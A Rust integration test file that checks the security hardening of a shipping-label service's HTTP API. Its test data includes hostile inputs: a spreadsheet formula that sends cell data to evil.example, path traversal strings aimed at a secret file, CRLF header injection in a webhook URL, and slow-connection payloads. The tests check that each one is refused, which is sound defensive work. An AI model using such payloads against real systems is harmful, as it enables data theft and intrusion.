//! Hardening of the HTTP face, tried as a machine on the same network would (its requests reach
//! the real router with a LAN peer address: axum's `MockConnectInfo` stands for the TCP
//! connection, which is the only thing simulated) and as an existing client of the real service
//! (over a real server on 127.0.0.1).

use crate::support;
use axum::body::Body;
use axum::extract::connect_info::MockConnectInfo;
use axum::http::{Request, StatusCode};
use http_body_util::BodyExt;
use packdesk_service::clock::SystemClock;
use packdesk_service::Service;
use serde_json::{json, Value};
use std::net::SocketAddr;
use std::sync::Arc;
use support::*;
use tower::ServiceExt;

const LAN_PEER: ([u8; 4], u16) = ([192, 0, 2, 77], 50123);
const LOOPBACK_PEER: ([u8; 4], u16) = ([127, 0, 0, 1], 50123);

struct Desk {
    service: Arc<Service>,
    ui: tempfile::TempDir,
    _data: tempfile::TempDir,
}

impl Desk {
    /// An environment's key (the test's own look into the store: the UI never gets one).
    fn key(&self, env: packdesk_service::keys::Env) -> String {
        let keys = self.service.reveal_own_keys().unwrap();
        keys.into_iter().find(|(e, _)| *e == env).unwrap().1
    }
}

/// A desk with a built UI folder (index.html, assets/app.js) and a secret beside the UI folder.
fn desk() -> Desk {
    let data = tempfile::tempdir().unwrap();
    let service = Arc::new(
        Service::open(data.path(), "http://127.0.0.1:4780", Arc::new(SystemClock))
            .unwrap()
            .service,
    );
    let ui = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(ui.path().join("dist/assets")).unwrap();
    std::fs::write(
        ui.path().join("dist/index.html"),
        "<!doctype html><title>Packdesk</title>",
    )
    .unwrap();
    std::fs::write(ui.path().join("dist/assets/app.js"), "console.log('desk')").unwrap();
    std::fs::write(
        ui.path().join("dist/favicon.svg"),
        "<svg xmlns='http://www.w3.org/2000/svg'/>",
    )
    .unwrap();
    std::fs::write(ui.path().join("secret.txt"), "TOP SECRET").unwrap();
    Desk {
        service,
        ui,
        _data: data,
    }
}

async fn send(d: &Desk, peer: ([u8; 4], u16), req: Request<Body>) -> (StatusCode, axum::http::HeaderMap, Vec<u8>) {
    let app = packdesk_api::app(d.service.clone(), Some(d.ui.path().join("dist")))
        .layer(MockConnectInfo(SocketAddr::from(peer)));
    let r = app.oneshot(req).await.unwrap();
    let (parts, body) = r.into_parts();
    (
        parts.status,
        parts.headers,
        body.collect().await.unwrap().to_bytes().to_vec(),
    )
}

fn get(path: &str, host: &str) -> Request<Body> {
    Request::get(path).header("host", host).body(Body::empty()).unwrap()
}

fn json_of(b: &[u8]) -> Value {
    serde_json::from_slice(b).unwrap_or(Value::Null)
}

#[tokio::test]
async fn the_ui_session_and_key_rotation_answer_this_machine_only_whatever_the_host_header_says() {
    let d = desk();
    // A LAN machine that writes `Host: 127.0.0.1` gets no key.
    let (status, _, body) = send(&d, LAN_PEER, get("/ui/session", "127.0.0.1:4780")).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert!(
        !String::from_utf8_lossy(&body).contains("pdk_"),
        "no key in {}",
        String::from_utf8_lossy(&body)
    );
    // This machine does.
    let (status, _, body) = send(&d, LOOPBACK_PEER, get("/ui/session", "127.0.0.1:4780")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(json_of(&body)["data"]["session"]["token"].is_string());
    let live = d.key(packdesk_service::keys::Env::Live);
    assert!(
        !String::from_utf8_lossy(&body).contains(&live),
        "the page's session holds no key"
    );
    // This machine, reached by a foreign name (DNS rebinding): refused.
    let (status, _, _) = send(&d, LOOPBACK_PEER, get("/ui/session", "evil.example:4780")).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    // Rotation from the LAN with the right key and a loopback Host: refused, the key still works.
    let rotate = Request::post("/ui/keys/live/rotate")
        .header("host", "127.0.0.1")
        .header("service-api-key", &live)
        .body(Body::empty())
        .unwrap();
    let (status, _, _) = send(&d, LAN_PEER, rotate).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(d.service.authenticate(&live), Some(packdesk_service::keys::Env::Live));
    // The desk's database (its answer holds the join code): from the LAN, with the live key and
    // a loopback Host, refused, and the refusal says where it is answered; from here, answered.
    let database = |host: &str| {
        Request::get("/desk/database")
            .header("host", host)
            .header("service-api-key", &live)
            .body(Body::empty())
            .unwrap()
    };
    let (status, _, body) = send(&d, LAN_PEER, database("127.0.0.1")).await;
    let refused = json_of(&body);
    assert_eq!(status, StatusCode::UNAUTHORIZED, "{refused}");
    assert_eq!(
        refused["meta"]["details"][0]["info"],
        "/desk/database is answered on this machine only"
    );
    let (status, _, body) = send(&d, LOOPBACK_PEER, database("127.0.0.1")).await;
    assert_eq!(
        (status, json_of(&body)["data"]["shared"].clone()),
        (StatusCode::OK, Value::Bool(false))
    );
    // "Restart now" likewise: not from the LAN; from here, a desk already on the database it
    // saved has nothing to restart for (and packdesk-server is never restarted by a request).
    let restart = || {
        Request::post("/desk/database/restart")
            .header("host", "127.0.0.1")
            .header("service-api-key", &live)
            .body(Body::empty())
            .unwrap()
    };
    let (status, _, body) = send(&d, LAN_PEER, restart()).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED, "{}", json_of(&body));
    let (_, _, body) = send(&d, LOOPBACK_PEER, restart()).await;
    let refused = json_of(&body);
    assert_eq!(refused["meta"]["code"], 4171, "{refused}");
    assert!(
        refused["meta"]["details"][0]["info"]
            .as_str()
            .unwrap()
            .contains("nothing to restart for"),
        "{refused}"
    );
}

#[tokio::test]
async fn printers_and_profiles_change_with_the_live_key_only_and_both_keys_read_them() {
    let d = desk();
    let (live, sandbox) = (
        &d.key(packdesk_service::keys::Env::Live),
        &d.key(packdesk_service::keys::Env::Sandbox),
    );
    let call = |method: &str, path: &str, key: &str, body: Value| {
        Request::builder()
            .method(method)
            .uri(path)
            .header("service-api-key", key)
            .header("content-type", "application/json")
            .body(Body::from(body.to_string()))
            .unwrap()
    };
    let printer = json!({"name": "Zebra", "transport": "raw", "address": "127.0.0.1:9100", "format": "zpl"});
    let (status, _, body) = send(
        &d,
        LOOPBACK_PEER,
        call("POST", "/desk/printers", sandbox, printer.clone()),
    )
    .await;
    let v = json_of(&body);
    assert_eq!(
        (status, v["meta"]["code"].as_u64()),
        (StatusCode::UNAUTHORIZED, Some(401)),
        "{v}"
    );
    assert_eq!(v["meta"]["details"][0]["path"], "headers.service-api-key");
    assert!(v["meta"]["details"][0]["info"].as_str().unwrap().contains("live key"));
    let (_, _, body) = send(&d, LOOPBACK_PEER, call("POST", "/desk/printers", live, printer)).await;
    let id = json_of(&body)["data"]["id"]
        .as_str()
        .expect("the live key adds it")
        .to_string();
    for (method, path, body) in [
        (
            "PUT",
            format!("/desk/printers/{id}"),
            json!({"name": "Elsewhere", "transport": "raw", "address": "192.0.2.9:9100", "format": "zpl"}),
        ),
        (
            "PUT",
            "/desk/print-profiles/label".to_string(),
            json!({"printer_id": id}),
        ),
        ("DELETE", format!("/desk/printers/{id}"), json!({})),
        ("DELETE", "/desk/print-profiles/label".to_string(), json!({})),
    ] {
        let (status, _, _) = send(&d, LOOPBACK_PEER, call(method, &path, sandbox, body)).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED, "{method} {path} with the sandbox key");
    }
    let (status, _, body) = send(&d, LOOPBACK_PEER, call("GET", "/desk/printers", sandbox, json!({}))).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(
        json_of(&body)["data"]["printers"][0]["address"],
        "127.0.0.1:9100",
        "unchanged, and readable with the sandbox key"
    );
}

#[tokio::test]
async fn ui_files_are_served_with_a_policy_and_no_path_leaves_the_ui_folder() {
    let d = desk();
    let (status, headers, body) = send(&d, LAN_PEER, get("/", "desk")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(String::from_utf8_lossy(&body).contains("<title>Packdesk</title>"));
    let csp = headers.get("content-security-policy").unwrap().to_str().unwrap();
    assert!(
        csp.contains("frame-ancestors 'none'") && csp.contains("default-src 'self'"),
        "{csp}"
    );
    assert_eq!(headers.get("x-content-type-options").unwrap(), "nosniff");
    let (status, headers, _) = send(&d, LAN_PEER, get("/assets/app.js", "desk")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(headers
        .get("content-type")
        .unwrap()
        .to_str()
        .unwrap()
        .contains("javascript"));
    let (status, _, _) = send(&d, LAN_PEER, get("/favicon.svg", "desk")).await;
    assert_eq!(
        status,
        StatusCode::OK,
        "top-level files such as the favicon need no key"
    );
    // A browser asks for /favicon.ico whatever the page says; a path outside the interface that
    // no file answers is a plain 404, never a 401 asking for a key. The interface still is.
    for (path, want) in [
        ("/favicon.ico", StatusCode::NOT_FOUND),
        ("/robots.txt", StatusCode::NOT_FOUND),
        ("/v3/labels", StatusCode::UNAUTHORIZED),
        ("/v3", StatusCode::UNAUTHORIZED),
        ("/desk/end-of-day", StatusCode::UNAUTHORIZED),
        ("/desk", StatusCode::UNAUTHORIZED),
        ("/v3x", StatusCode::NOT_FOUND),
    ] {
        let (status, _, _) = send(&d, LAN_PEER, get(path, "desk")).await;
        assert_eq!(status, want, "{path} without a key");
    }
    for bad in [
        "/assets/../secret.txt",
        "/assets/../../secret.txt",
        "/assets/%2e%2e/%2e%2e/secret.txt",
        "/assets/%2E%2E%2F%2E%2E%2Fsecret.txt",
        "/assets/..%5c..%5csecret.txt",
        "/assets/%252e%252e/secret.txt",
        "/assets/C:%5csecret.txt",
        "/assets/.%2e/.%2e/secret.txt",
    ] {
        let (status, _, body) = send(&d, LAN_PEER, get(bad, "desk")).await;
        assert_ne!(status, StatusCode::OK, "{bad}");
        assert!(!String::from_utf8_lossy(&body).contains("TOP SECRET"), "{bad}");
    }
}

// ----- an existing client of the real service, over a real server -----

#[test]
fn a_record_file_url_downloads_without_the_key_and_a_tampered_one_does_not() {
    let s = Server::start();
    let account = yodel_account(&s);
    let label = s.sandbox_ok("POST", "/v3/labels", Some(&yodel_label(&account, 1)));
    let url = label["files"]["label"]["url"].as_str().unwrap();
    let plain = reqwest::blocking::get(url).unwrap();
    assert_eq!(plain.status().as_u16(), 200, "{url}");
    assert!(plain.bytes().unwrap().starts_with(b"%PDF"));
    let tampered = url.replace("signature=", "signature=00");
    assert_eq!(reqwest::blocking::get(&tampered).unwrap().status().as_u16(), 401);
    let unsigned = url.split('?').next().unwrap();
    assert_eq!(
        reqwest::blocking::get(unsigned).unwrap().status().as_u16(),
        401,
        "without a signature the key is needed"
    );
    let (ct, bytes) = s.download(unsigned, &s.sandbox);
    assert!(
        ct.contains("pdf") && bytes.starts_with(b"%PDF"),
        "the same path with the key keeps working"
    );
}

fn post_with_key(s: &Server, key: &str, idem: &str, body: &Value) -> (Value, Option<String>) {
    let r = reqwest::blocking::Client::new()
        .post(s.url("/v3/labels"))
        .header("service-api-key", key)
        .header("idempotency-key", idem)
        .header("content-type", "application/json")
        .body(body.to_string())
        .send()
        .unwrap();
    let replayed = r
        .headers()
        .get("idempotent-replayed")
        .map(|v| v.to_str().unwrap().to_string());
    (r.json().unwrap(), replayed)
}

#[test]
fn an_idempotency_key_answers_the_first_answer_again_and_refuses_another_body() {
    let s = Server::start();
    let account = yodel_account(&s);
    let body = yodel_label(&account, 1);
    let (first, replayed) = post_with_key(&s, &s.sandbox, "order-1001-label", &body);
    assert_eq!(first["meta"]["code"], 200, "{first}");
    assert_eq!(replayed, None);
    let (again, replayed) = post_with_key(&s, &s.sandbox, "order-1001-label", &body);
    assert_eq!(again, first, "the same answer: same label, same tracking number");
    assert_eq!(replayed.as_deref(), Some("true"));
    let labels = s.sandbox_ok("GET", "/v3/labels", None);
    assert_eq!(labels["labels"].as_array().unwrap().len(), 1, "one label made");
    // Another body with the same key: refused, naming the header.
    let mut other = body.clone();
    other["shipment"]["parcels"][0]["weight"]["value"] = json!(3.3);
    let (refused, _) = post_with_key(&s, &s.sandbox, "order-1001-label", &other);
    assert_eq!(refused["meta"]["code"], 4104, "{refused}");
    assert_eq!(refused["meta"]["details"][0]["path"], "headers.idempotency-key");
    // Async requests too: the 3001 answer comes again, one job, one label.
    let mut asynchronous = body.clone();
    asynchronous["async"] = json!(true);
    let (a1, _) = post_with_key(&s, &s.sandbox, "async-1", &asynchronous);
    let (a2, _) = post_with_key(&s, &s.sandbox, "async-1", &asynchronous);
    assert_eq!(a1["meta"]["code"], 3001);
    assert_eq!(a1["data"]["id"], a2["data"]["id"]);
    // Keys are per environment: the live key's "order-1001-label" is another request.
    let (live, _) = post_with_key(&s, &s.live, "order-1001-label", &body);
    assert_ne!(live["meta"]["code"], 4104, "{live}");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    loop {
        let labels = s.sandbox_ok("GET", "/v3/labels", None);
        let all = labels["labels"].as_array().unwrap();
        if all.iter().all(|l| l["status"] == "created") {
            assert_eq!(all.len(), 2, "one sync and one async label, none doubled");
            break;
        }
        assert!(std::time::Instant::now() < deadline, "the async label was not made");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

#[test]
fn a_bad_idempotency_key_is_refused_with_its_path() {
    let s = Server::start();
    let account = yodel_account(&s);
    let (v, _) = post_with_key(&s, &s.sandbox, &"k".repeat(300), &yodel_label(&account, 1));
    assert_eq!(v["meta"]["code"], 4104);
    assert_eq!(v["meta"]["details"][0]["path"], "headers.idempotency-key");
}

// ----- Defects found from outside (issue 34), each black box against a real server -----

#[test]
fn an_exported_csv_never_runs_a_formula_and_keeps_numbers_as_numbers() {
    let s = Server::start();
    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
    let mut ship_to = address(formula, "GBR", "M1 1AE");
    ship_to["city"] = json!("-Manchester");
    s.sandbox_ok(
        "POST",
        "/desk/orders",
        Some(
            &json!({"order_number": "@SUM(1)", "ship_to": ship_to, "items": [{"description": "+Mug", "quantity": 1}]}),
        ),
    );
    let resp = reqwest::blocking::Client::new()
        .get(s.url("/desk/orders/export.csv"))
        .header("service-api-key", &s.sandbox)
        .send()
        .unwrap();
    let text = resp.text().unwrap();
    let row = text.lines().nth(1).expect("one order");
    // Each cell a spreadsheet would run is text: quoted and begun with a quote mark.
    assert!(row.starts_with(r#""'@SUM(1)","#), "{row}");
    assert!(
        row.contains(r#""'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")""#),
        "{row}"
    );
    for cell in row.split(',') {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell begins with a formula: {cell} in {row}"
        );
    }
}

#[test]
fn control_characters_are_refused_at_their_field_but_line_breaks_where_text_spans_lines() {
    let s = Server::start();
    let account = yodel_account(&s);
    let mut body = yodel_label(&account, 1);
    body["shipment"]["ship_to"]["contact_name"] = json!("Jane\u{0}Doe");
    let (_, v) = s.call("POST", "/v3/labels", &s.sandbox, Some(&body));
    assert_eq!(v["meta"]["code"], 4104, "{v}");
    assert_eq!(detail_paths(&v), ["shipment.ship_to.contact_name"]);
    body["shipment"]["ship_to"]["contact_name"] = json!("Jane Doe");
    body["shipment"]["ship_to"]["street1"] = json!("1 Bell St\u{7}\u{1b}[2J");
    let (_, v) = s.call("POST", "/v3/labels", &s.sandbox, Some(&body));
    assert_eq!(detail_paths(&v), ["shipment.ship_to.street1"]);
    body["shipment"]["ship_to"]["street1"] = json!("1 Bell St");
    body["shipment"]["delivery_instructions"] = json!("Ring twice\r\nBack door");
    let (_, v) = s.call("POST", "/v3/labels", &s.sandbox, Some(&body));
    assert_eq!(
        v["meta"]["code"], 200,
        "line breaks are taken in delivery instructions: {v}"
    );
    let (_, v) = s.call(
        "PUT",
        "/desk/webhook",
        &s.sandbox,
        Some(&json!({"url": "https://wms.example/hook\r\nX-Injected: 1"})),
    );
    assert_eq!(detail_paths(&v), ["url"]);
    // A CSV import refuses the row with the cell's line and column.
    let csv = "Order number,Name,Street,City,Postcode,Country\n1001,Ann\u{0}Lee,1 High St,Leeds,LS1 1AA,GB\n";
    let (_, v) = s.send_raw("POST", "/desk/orders/import", &s.sandbox, "text/csv", csv.into());
    let failed = &v["data"]["failed"];
    assert_eq!(
        (v["data"]["imported"].as_i64(), failed[0]["row"].as_i64()),
        (Some(0), Some(2)),
        "{v}"
    );
    assert_eq!(failed[0]["column"], "Name");
}

#[test]
fn json_bodies_are_strict_about_shapes_duplicate_keys_and_their_content_type() {
    let s = Server::start();
    let account = yodel_account(&s);
    let good = yodel_label(&account, 1);
    let cases = [
        ("shipper_account", json!(["x"])),
        ("shipment.parcels[0].weight", json!([2, "kg"])),
        ("invoice", json!([])),
    ];
    for (path, value) in cases {
        let mut body = good.clone();
        match path {
            "shipper_account" => body["shipper_account"] = value,
            "invoice" => body["invoice"] = value,
            _ => body["shipment"]["parcels"][0]["weight"] = value,
        }
        let (_, v) = s.call("POST", "/v3/labels", &s.sandbox, Some(&body));
        assert_eq!(
            (v["meta"]["code"].as_i64(), detail_paths(&v)),
            (Some(4104), vec![path]),
            "{v}"
        );
    }
    let text = good
        .to_string()
        .replacen(r#""service_type":"#, r#""service_type":"x","service_type":"#, 1);
    let (_, v) = s.send_raw("POST", "/v3/labels", &s.sandbox, "application/json", text.into_bytes());
    assert_eq!(
        (v["meta"]["code"].as_i64(), detail_paths(&v)),
        (Some(4104), vec!["service_type"]),
        "{v}"
    );
    for ct in [
        "text/plain",
        "application/x-www-form-urlencoded",
        "application/json; charset=latin1",
    ] {
        let (status, v) = s.send_raw("POST", "/v3/labels", &s.sandbox, ct, good.to_string().into_bytes());
        assert_eq!(
            (status, v["meta"]["code"].as_i64(), detail_paths(&v)),
            (200, Some(4104), vec!["headers.content-type"]),
            "{ct}: {v}"
        );
    }
    let (_, v) = s.send_raw(
        "POST",
        "/v3/labels",
        &s.sandbox,
        "application/json; charset=utf-8",
        good.to_string().into_bytes(),
    );
    assert_eq!(v["meta"]["code"], 200, "{v}");
    // Ids are found whatever the case of their hex digits, in the path and in the body.
    let id = v["data"]["id"].as_str().unwrap().to_uppercase();
    assert_eq!(
        s.sandbox_ok("GET", &format!("/v3/labels/{id}"), None)["id"],
        id.to_lowercase()
    );
    let mut upper = good.clone();
    upper["shipper_account"]["id"] = json!(account.to_uppercase());
    assert_eq!(
        s.sandbox_ok("POST", "/v3/labels", Some(&upper))["shipper_account"]["id"],
        account
    );
}

#[test]
fn an_importer_address_needs_a_place_and_a_bulk_download_one_paper_size() {
    let s = Server::start();
    let account = yodel_account(&s);
    let mut body = yodel_label(&account, 1);
    body["shipment"]["ship_to"] = address("Jane Doe", "DEU", "10115");
    body["customs"] = json!({"purpose": "merchandise", "importer_address": {"contact_name": "Importer GmbH"}});
    let (_, v) = s.call("POST", "/v3/labels", &s.sandbox, Some(&body));
    let paths = detail_paths(&v);
    for field in ["street1", "city", "country"] {
        assert!(
            paths.contains(&format!("customs.importer_address.{field}").as_str()),
            "{v}"
        );
    }
    // Two labels of one account on two paper sizes cannot be one document of one paper size.
    let skynet = s.sandbox_ok(
        "POST",
        "/v3/shipper-accounts",
        Some(&json!({"slug": "skynetworldwide", "description": "Skynet",
        "credentials": {"username": "u", "password": "p", "entity_id": "1", "entity_pin": "2", "account_code": "3"}})),
    )["id"]
        .clone();
    let mut label = yodel_label(skynet.as_str().unwrap(), 1);
    label["service_type"] = json!("skynetworldwide_domestic_next_day");
    label["paper_size"] = json!("4x6");
    let first = s.sandbox_ok("POST", "/v3/labels", Some(&label))["id"].clone();
    label["paper_size"] = json!("a4");
    let second = s.sandbox_ok("POST", "/v3/labels", Some(&label))["id"].clone();
    let (_, v) = s.call(
        "POST",
        "/v3/bulk-downloads",
        &s.sandbox,
        Some(&json!({"labels": [{"id": first}, {"id": second}]})),
    );
    assert_eq!(v["meta"]["code"], 4104, "{v}");
    assert!(
        v["meta"]["details"][0]["info"].as_str().unwrap().contains("paper"),
        "{v}"
    );
}

#[test]
fn file_links_name_the_address_asked_and_head_answers_like_get() {
    let mut s = Server::start_with(&["--listen", "0.0.0.0:0", "--public-url", "https://desk.example"]);
    let port = s.base.rsplit(':').next().unwrap().to_string();
    // Other machines get HTTPS there; this machine may speak plain HTTP.
    assert!(s.base.starts_with("https://"), "{}", s.base);
    let local = format!("http://127.0.0.1:{port}");
    s.base = local.clone();
    let account = yodel_account(&s);
    let create = |base: &str, host: Option<&str>| -> Value {
        let mut req = reqwest::blocking::Client::new()
            .post(format!("{base}/v3/labels"))
            .header("service-api-key", &s.sandbox)
            .header("content-type", "application/json")
            .body(yodel_label(&account, 1).to_string());
        if let Some(h) = host {
            req = req.header("host", h);
        }
        req.send().unwrap().json().unwrap()
    };
    let v = create(&local, None);
    let url = v["data"]["files"]["label"]["url"].as_str().unwrap().to_string();
    assert!(url.starts_with(&format!("{local}/v3/files/")), "{url}");
    assert!(!url.contains("0.0.0.0"), "{url}");
    // Through the name the warehouse gave it, the links use that name.
    let v = create(&local, Some("desk.example"));
    let named = v["data"]["files"]["label"]["url"].as_str().unwrap();
    assert!(named.starts_with("https://desk.example/v3/files/"), "{named}");
    // Another name in Host is not trusted: the address the request came to is used.
    let v = create(&local, Some("evil.example"));
    assert!(
        v["data"]["files"]["label"]["url"].as_str().unwrap().starts_with(&local),
        "{v}"
    );
    // HEAD on a signed link answers like GET without the body.
    let client = reqwest::blocking::Client::new();
    let get = client.get(&url).send().unwrap();
    assert_eq!(get.status().as_u16(), 200);
    let length = get.bytes().unwrap().len();
    let head = client.head(&url).send().unwrap();
    assert_eq!(head.status().as_u16(), 200);
    assert_eq!(head.headers()["content-type"], "application/pdf");
    assert_eq!(head.headers()["content-length"].to_str().unwrap(), length.to_string());
    assert!(head.bytes().unwrap().is_empty());
}

/// Reads from a raw connection until the server closes it; false if it is still open after `secs`.
fn closed_by_server(c: &mut std::net::TcpStream, secs: u64) -> (bool, Vec<u8>) {
    use std::io::Read;
    c.set_read_timeout(Some(std::time::Duration::from_secs(secs))).unwrap();
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        match c.read(&mut buf) {
            Ok(0) => return (true, got),
            Ok(n) => got.extend_from_slice(&buf[..n]),
            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => return (true, got),
            Err(_) => return (false, got),
        }
    }
}

#[test]
fn slow_and_idle_connections_are_closed_and_too_many_are_refused() {
    use std::io::Write;
    let s = Server::start_with(&[
        "--request-head-timeout",
        "1",
        "--idle-timeout",
        "2",
        "--body-timeout",
        "1",
    ]);
    let addr = s.base.trim_start_matches("http://").to_string();
    let connect = || std::net::TcpStream::connect(&addr).unwrap();
    // A connection that never sends a request: closed.
    let mut silent = connect();
    assert!(
        closed_by_server(&mut silent, 20).0,
        "a connection that sends nothing is closed"
    );
    // A head sent a byte at a time, never finished: closed.
    let mut slow_head = connect();
    slow_head.write_all(b"GET /v3/labels HTTP/1.1\r\nHost: x\r\n").unwrap();
    assert!(
        closed_by_server(&mut slow_head, 20).0,
        "a head that never ends is closed"
    );
    // A body that stalls: the request ends and so does the connection.
    let mut slow_body = connect();
    let head = format!(
        "POST /v3/labels HTTP/1.1\r\nHost: x\r\nservice-api-key: {}\r\ncontent-type: application/json\r\ncontent-length: 100\r\n\r\n{{\"a\":",
        s.sandbox
    );
    slow_body.write_all(head.as_bytes()).unwrap();
    assert!(closed_by_server(&mut slow_body, 20).0, "a stalled body is closed");
    // Keep-alive: two requests on one connection, then idle: closed.
    let mut idle = connect();
    let get = format!(
        "GET /desk/status HTTP/1.1\r\nHost: x\r\nservice-api-key: {}\r\n\r\n",
        s.sandbox
    );
    for _ in 0..2 {
        idle.write_all(get.as_bytes()).unwrap();
        idle.set_read_timeout(Some(std::time::Duration::from_secs(10))).unwrap();
        let mut buf = [0u8; 65536];
        let n = std::io::Read::read(&mut idle, &mut buf).unwrap();
        assert!(
            buf[..n].starts_with(b"HTTP/1.1 200"),
            "{}",
            String::from_utf8_lossy(&buf[..n])
        );
    }
    assert!(
        closed_by_server(&mut idle, 20).0,
        "an idle keep-alive connection is closed"
    );
    // Three connections held open (a desk with the usual time limits); a fourth is refused in the
    // interface's words.
    let s = Server::start_with(&["--max-connections", "3"]);
    let addr = s.base.trim_start_matches("http://").to_string();
    let connect = || std::net::TcpStream::connect(&addr).unwrap();
    let held: Vec<_> = (0..3).map(|_| connect()).collect();
    std::thread::sleep(std::time::Duration::from_millis(200));
    let mut fourth = connect();
    let (closed, said) = closed_by_server(&mut fourth, 20);
    let said = String::from_utf8_lossy(&said);
    assert!(closed && said.starts_with("HTTP/1.1 503"), "{said}");
    assert!(
        said.contains("\"retryable\":true") && said.contains("3 connections"),
        "{said}"
    );
    drop(held);
}

#[tokio::test]
async fn metrics_answer_this_machine_or_the_live_key_and_no_one_else() {
    let d = desk();
    let scrape = |key: Option<&str>| {
        let r = Request::get("/metrics").header("host", "127.0.0.1:4780");
        let r = match key {
            Some(k) => r.header("service-api-key", k),
            None => r,
        };
        r.body(Body::empty()).unwrap()
    };
    let (status, _, _) = send(&d, LAN_PEER, scrape(None)).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let sandbox = d.key(packdesk_service::keys::Env::Sandbox);
    let (status, _, _) = send(&d, LAN_PEER, scrape(Some(&sandbox))).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED, "the sandbox key reads no metrics");
    let live = d.key(packdesk_service::keys::Env::Live);
    let (status, headers, body) = send(&d, LAN_PEER, scrape(Some(&live))).await;
    assert_eq!(status, StatusCode::OK);
    assert!(headers[axum::http::header::CONTENT_TYPE]
        .to_str()
        .unwrap()
        .starts_with("text/plain"));
    let body = String::from_utf8_lossy(&body);
    assert!(body.contains("packdesk_async_jobs_queued"));
    // What holds the memory: SQLite's own is more than nothing once the desk has its store open.
    let sqlite_bytes = body
        .lines()
        .find_map(|l| l.strip_prefix("packdesk_memory_bytes{part=\"sqlite\"} "))
        .and_then(|v| v.trim().parse::<f64>().ok());
    assert!(sqlite_bytes.is_some_and(|b| b > 0.0), "{body}");
    assert!(body.contains("packdesk_memory_bytes{part=\"heap_free\"}"), "{body}");
    let (status, _, _) = send(&d, LOOPBACK_PEER, scrape(None)).await;
    assert_eq!(status, StatusCode::OK);
}
